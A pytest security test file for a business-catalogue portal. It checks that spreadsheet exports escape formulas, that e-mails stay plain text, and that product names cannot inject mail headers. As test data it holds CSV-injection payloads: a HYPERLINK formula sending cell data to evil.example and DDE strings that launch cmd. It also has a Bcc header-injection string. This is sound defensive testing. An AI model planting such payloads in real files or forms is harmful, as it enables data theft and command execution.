"""What leaves the portal as a file or an e-mail: spreadsheet exports escape formulas (CSV
injection) and keep text exactly; e-mails are plain text, so a product named like markup is
inert there, and a name cannot smuggle in mail headers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from agencies.models import Role
from catalog.models import Collaboration
from tests.factories import BusinessFactory, ProductFactory
from tests.helpers import member
from tests.security.helpers import XSS, api_as, page_as, text_of

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formulas(w):
    """A business and a product of agency A for each formula, named with it."""
    for n, formula in enumerate(FORMULAS):
        business = BusinessFactory(
            name=formula, owner_name=formula, region=w.region, registering_agency=w.a
        )
        ProductFactory(
            name=formula,
            summary=formula,
            business=business,
            owner_agency=w.a,
            category=w.category,
            slug=f"rumus-{n}",
        )
    return FORMULAS


def csv_rows(response) -> list[dict]:
    """Rows by the key row (the second; the first names the columns for people)."""
    lines = io.StringIO(text_of(response).lstrip("\ufeff"))
    next(csv.reader(lines))
    return list(csv.DictReader(lines))


def xlsx_rows(response) -> list[dict]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    _labels, header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [{name: cell for name, cell in zip(names, row, strict=True)} for row in rows]


@pytest.mark.parametrize(
    ("export", "columns"),
    [
        ("produk", ["name", "summary", "business_name"]),
        ("umkm", ["name", "owner_name"]),
    ],
)
def test_csv_exports_escape_formulas(w, formulas, export, columns):
    response = page_as(w.editor_a).get(f"/ruang-kerja/ekspor/{export}/", {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    cells = {row[column] for row in csv_rows(response) for column in columns}
    for formula in formulas:
        assert "'" + formula in cells
        assert formula not in cells


@pytest.mark.parametrize(
    ("export", "columns"),
    [
        ("produk", ["name", "summary", "business_name"]),
        ("umkm", ["name", "owner_name"]),
    ],
)
def test_xlsx_exports_escape_formulas(w, formulas, export, columns):
    response = page_as(w.editor_a).get(f"/ruang-kerja/ekspor/{export}/", {"format": "xlsx"})

    assert response.status_code == 200
    cells = [row[column] for row in xlsx_rows(response) for column in columns]
    texts = {cell.value for cell in cells}
    assert all(cell.data_type != "f" for cell in cells)  # text, never a formula cell
    for formula in formulas:
        assert "'" + formula.replace("\r", "\n") in texts  # XML reads a CR back as LF


def test_exports_keep_markup_exactly_and_serve_it_as_a_download(w):
    client = api_as(w.editor_a)
    created = client.post(
        "/api/v1/products/",
        {
            "business": w.business_a.slug,
            "name": XSS[0],
            "summary": XSS[1],
            "category": w.category.slug,
            "price_min": 1,
            "price_max": 2,
        },
        format="json",
    )
    assert created.status_code == 201

    response = page_as(w.editor_a).get("/ruang-kerja/ekspor/produk/", {"format": "csv"})

    assert response["Content-Type"].startswith("text/csv")
    assert response["X-Content-Type-Options"] == "nosniff"
    [row] = [row for row in csv_rows(response) if row["slug"] == created.json()["slug"]]
    assert (row["name"], row["summary"]) == (XSS[0], XSS[1])


# E-mail -----------------------------------------------------------------------------------------


@pytest.fixture
def koperasi_manager(w):
    return member(w.koperasi, Role.MANAGER, username="koperasi.manager")


@pytest.fixture
def hostile_product(w):
    response = api_as(w.editor_a).post(
        "/api/v1/products/",
        {
            "business": w.business_a.slug,
            "name": XSS[1] + XSS[0],
            "category": w.category.slug,
            "price_min": 1,
            "price_max": 2,
            "status": "published",
        },
        format="json",
    )
    assert response.status_code == 201
    return response.json()["slug"]


@pytest.mark.parametrize("face", ["api", "page"])
def test_an_invitation_mail_names_the_product_as_plain_text(
    w, koperasi_manager, hostile_product, face, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        if face == "api":
            response = api_as(w.manager_a).post(
                f"/api/v1/products/{hostile_product}/collaborations/",
                {"agency": w.koperasi.slug, "note": XSS[0]},
                format="json",
            )
        else:
            response = page_as(w.manager_a).post(
                f"/ruang-kerja/produk/{hostile_product}/kolaborasi/",
                {"agency": w.koperasi.pk, "note": XSS[0]},
            )

    assert response.status_code in (201, 302)
    [mail] = mailoutbox
    assert mail.to == [koperasi_manager.email]
    assert mail.content_subtype == "plain" and not getattr(mail, "alternatives", [])
    name = XSS[1] + XSS[0]
    assert name in mail.subject and name in mail.body  # inert in plain text, never re-escaped
    assert "&lt;" not in mail.body


@pytest.mark.django_db(transaction=True)
def test_a_product_name_cannot_inject_mail_headers(w, koperasi_manager, mailoutbox):
    client = api_as(w.manager_a)
    created = client.post(
        "/api/v1/products/",
        {
            "business": w.business_a.slug,
            "name": "Lada\r\nBcc: korban@evil.example",
            "category": w.category.slug,
            "price_min": 1,
            "price_max": 2,
        },
        format="json",
    )
    if created.status_code == 400:  # refusing the name is a fine answer too
        return

    response = client.post(
        f"/api/v1/products/{created.json()['slug']}/collaborations/",
        {"agency": w.koperasi.slug},
        format="json",
    )

    assert response.status_code == 201
    assert Collaboration.objects.filter(agency=w.koperasi).exists()
    [mail] = mailoutbox
    assert "\n" not in mail.subject and "\r" not in mail.subject
    assert mail.bcc == [] and "korban@evil.example" not in mail.recipients()
